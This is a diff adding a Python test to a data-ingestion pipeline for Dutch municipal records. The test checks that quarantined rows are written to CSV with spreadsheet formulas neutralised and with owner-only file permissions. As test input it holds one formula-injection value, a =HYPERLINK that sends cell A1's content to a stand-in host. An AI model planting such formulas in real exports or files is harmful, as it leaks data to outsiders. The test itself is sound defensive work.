@@ -221,3 +221,18 @@ def test_a_list_column_where_the_contract_wants_a_list_is_read(tmp_path, key):
     result = ingest_source("bag", tmp_path, SourceConfig(), key)
     assert result.summary.status == "ok", result.summary.error
     assert result.frame["gebruiksdoel"].to_list()[1] == ["woonfunctie", "winkelfunctie"]
+
+
+def test_a_quarantine_file_opens_in_a_spreadsheet_as_text_not_formulas(tmp_path, key):
+    # A quarantined row is what a clerk typed, unchecked: opened in a spreadsheet, a cell
+    # starting with "=" would run (=HYPERLINK sending the address elsewhere).
+    rows = _meldingen(3)
+    rows[1]["datum"] = "gisteren"
+    rows[1]["adres"] = '=HYPERLINK("http://example.org/?"&A1;"klik")'
+    write_extract(tmp_path, "meldingen", rows)
+    extracts = Extracts([ingest_source("meldingen", tmp_path, SourceConfig(), key)])
+    assert extracts["meldingen"].summary.rows_quarantined == 1
+    written = write_quarantine(extracts, tmp_path / "q")["meldingen"]
+    (row,) = pl.read_csv(written, infer_schema=False).iter_rows(named=True)
+    assert row["adres"] == "'" + rows[1]["adres"]  # shown as text, still readable
+    assert written.stat().st_mode & 0o777 == 0o600
